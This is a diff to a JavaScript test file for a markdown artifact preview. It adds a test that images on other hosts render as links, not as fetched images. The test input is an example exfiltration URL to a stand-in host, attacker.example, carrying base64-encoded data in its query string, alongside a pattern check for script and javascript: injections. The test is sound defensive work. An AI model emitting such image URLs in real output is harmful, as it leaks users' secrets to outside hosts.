@@ -22,4 +22,12 @@ describe('artifact previews', () => {
     expect(html).not.toMatch(/<img|<script|href="javascript:|href="data:/);
     expect(html).toContain('&lt;img');
   });
+
+  it('an image on another host is a link, not fetched when the preview opens (outsider attack on issue 18)', () => {
+    const html = markdownHtml('![secret](https://attacker.example/x.png?d=c2VjcmV0) ![b](//attacker.example/y.png) ![ok](./local.png)');
+    expect(html).not.toMatch(/<img[^>]*attacker/);
+    expect(html).toContain('<a href="https://attacker.example/x.png?d=c2VjcmV0" rel="noreferrer noopener">secret</a>');
+    expect(html).toContain('<a href="//attacker.example/y.png" rel="noreferrer noopener">b</a>');
+    expect(html).toContain('<img src="./local.png" alt="ok">');
+  });
 });
